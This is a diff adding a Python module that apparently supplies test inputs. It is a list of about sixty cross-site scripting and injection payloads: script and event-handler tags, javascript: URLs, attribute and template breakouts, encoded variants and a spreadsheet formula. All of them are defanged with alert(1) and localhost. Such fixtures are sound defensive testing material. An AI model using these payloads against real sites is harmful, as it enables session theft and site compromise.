@@ -1,0 +1,75 @@
+"""Sixty texts that would do something where a page took them for more than a text."""
+
+SCRIPT = "alert(1)"
+
+_TAGS = [
+    "<script>{0}</script>",
+    "<script src=http://127.0.0.1:9/x.js></script>",
+    "</script><script>{0}</script>",
+    "<img src=x onerror={0}>",
+    "<svg onload={0}>",
+    "<svg><script>{0}</script></svg>",
+    "<svg><animate onbegin={0} attributeName=x>",
+    "<body onload={0}>",
+    "<iframe srcdoc='<script>parent.{0}</script>'></iframe>",
+    "<iframe src=javascript:{0}></iframe>",
+    "<object data=javascript:{0}>",
+    "<embed src=javascript:{0}>",
+    "<math href=javascript:{0}>x</math>",
+    "<a href=javascript:{0}>x</a>",
+    "<a href=' javascript:{0}'>x</a>",
+    "<form action=javascript:{0}><button>x</button></form>",
+    "<button formaction=javascript:{0}>x</button>",
+    "<input autofocus onfocus={0}>",
+    "<details open ontoggle={0}>",
+    "<video><source onerror={0}></video>",
+    "<audio src=x onerror={0}>",
+    "<marquee onstart={0}>",
+    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
+    "<link rel=stylesheet href=http://127.0.0.1:9/x.css>",
+    "<base href=http://127.0.0.1:9/>",
+    "<style>@import 'http://127.0.0.1:9/x';</style>",
+    "<style>*{{background:url(http://127.0.0.1:9/x)}}</style>",
+    "<template><script>{0}</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
+    "<textarea></textarea><script>{0}</script>",
+    "<title></title><script>{0}</script>",
+    "<!--><script>{0}</script>-->",
+    "<![CDATA[><script>{0}</script>]]>",
+    "<x onclick={0} tabindex=1 id=x>x</x>",
+    "<div style='background:url(javascript:{0})'>",
+]
+
+_BREAKS = [
+    '"><script>{0}</script>',
+    "'><script>{0}</script>",
+    "\"'><img src=x onerror={0}>",
+    "' onmouseover='{0}",
+    '" autofocus onfocus="{0}',
+    "`-{0}-`",
+    "';{0};//",
+    '";{0};//',
+    "\\';{0};//",
+    "${{{0}}}",
+    "{{{{constructor.constructor('{0}')()}}}}",
+    "{{{{7*7}}}}",
+    "<%= {0} %>",
+    "#{{{0}}}",
+    "javascript:{0}",
+    "JaVaScRiPt:{0}",
+    "java\tscript:{0}",
+    "data:text/html,<script>{0}</script>",
+    "vbscript:{0}",
+    "//127.0.0.1:9/x",
+]
+
+_ODD = [
+    "\u202e<script>{0}</script>\u202c",
+    "<scr\u0000ipt>{0}</script>",
+    "\uff1cscript\uff1e{0}\uff1c/script\uff1e",
+    "%3Cscript%3E{0}%3C/script%3E",
+    "&lt;script&gt;{0}&lt;/script&gt;",
+    '=HYPERLINK("http://127.0.0.1:9")',
+]
+
+HOSTILE = [text.format(SCRIPT) for text in (*_TAGS, *_BREAKS, *_ODD)]
